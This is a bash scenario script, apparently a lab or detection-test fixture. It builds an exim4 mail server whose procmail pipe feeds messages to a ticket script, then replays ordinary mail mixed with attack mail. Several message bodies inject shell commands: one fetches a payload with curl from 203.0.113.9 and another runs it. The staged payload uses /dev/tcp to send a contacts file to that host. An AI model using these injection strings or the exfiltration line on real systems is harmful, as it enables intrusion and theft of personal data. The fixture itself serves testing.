# shellcheck shell=bash disable=SC2034
HOST=mx01
FORMAT=ENRICHED
UNSET=1

post() { outside /usr/bin/python3 -S -B "$folder/post.py" "$@"; }

administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/ops.key" ops@10.88.0.10 "$1"
}

scenario() {
    fresh /var/spool/exim4 /var/log/exim4 /var/mail
    chgrp mail /var/mail
    chmod 2775 /var/mail
    mkdir -p /srv/tickets /run/sshd "$work/theirs"
    install -m 755 "$folder/file.sh" /srv/tickets/file
    install -m 644 "$folder/exim4.conf" /etc/exim4/exim4.conf
    printf 'name,phone\nada,12345\n' >/srv/tickets/contacts.csv
    account tickets 4050
    account sales 4052
    account ops 4051
    printf '%s\n' ':0' '| /srv/tickets/file' >/srv/home/tickets/.procmailrc
    chown tickets /srv/tickets /srv/home/tickets/.procmailrc
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/ops.key"
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/tickets/contacts.csv >&3' >"$work/theirs/m"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside /usr/sbin/exim4 -bdf -q8s >/dev/null 2>&1 &
    sleep 1.5
    post 192.0.2.7 sales "an order"
    post 192.0.2.41 tickets "a lamp is broken"
    administer "/usr/bin/mailq"
    sleep 8
    post 198.51.100.23 tickets '$(curl -s -o /srv/tickets/.m http://203.0.113.9:443/m)'
    sleep 0.5
    post 192.0.2.7 sales "a second order"
    post 192.0.2.41 tickets "a chair is broken"
    sleep 8
    administer "ls -l /srv/tickets"
    post 198.51.100.23 tickets '$(bash /srv/tickets/.m)'
    sleep 0.7
    post 192.0.2.7 sales "a third order"
    post 192.0.2.41 tickets "a table is broken"
    sleep 9
    post 192.0.2.7 tickets "late"
    sleep 8
    administer "wc -l /srv/tickets/contacts.csv"
}
